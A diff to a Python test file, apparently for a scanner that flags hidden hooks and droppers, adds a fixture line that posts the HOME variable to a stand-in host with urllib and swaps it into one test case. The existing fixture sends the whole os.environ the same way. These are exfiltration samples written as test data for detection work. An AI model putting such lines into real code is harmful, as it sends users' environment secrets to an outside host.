@@ -241,6 +241,7 @@ def test_a_write_and_a_run_that_do_not_meet_are_not_a_dropper(body: str) -> None
 
 HOOKS = "import sys, os, atexit, weakref, codecs, threading, urllib.request\n\n"
 SEND = "    urllib.request.urlopen('http://example.invalid/x', repr(dict(os.environ)).encode())\n"
+SEND_ONE = "    urllib.request.urlopen('http://example.invalid/x', os.environ['HOME'].encode())\n"
 
 
 @pytest.mark.parametrize(
@@ -278,7 +279,9 @@ def test_a_finder_installed_by_a_function_called_by_a_string_is_judged() -> None
             "    def __del__(self):\n        self.f.close()\n\n_g = G()\n"
         ),
         "def _hook(*a):\n    print('uncaught', *a)\n\nsys.excepthook = _hook\n",
-        "def _boot():\n" + SEND + "\ndef later():\n    globals()['_boot']()\n",
+        # One variable, not the whole environment: that is sent to an address written in
+        # the code whenever it runs (ADR 0093), and this case is about when the hook runs.
+        "def _boot():\n" + SEND_ONE + "\ndef later():\n    globals()['_boot']()\n",
     ],
 )
 def test_quiet_hooks_and_hooks_set_later_stay_below_a_hold(source: str) -> None:
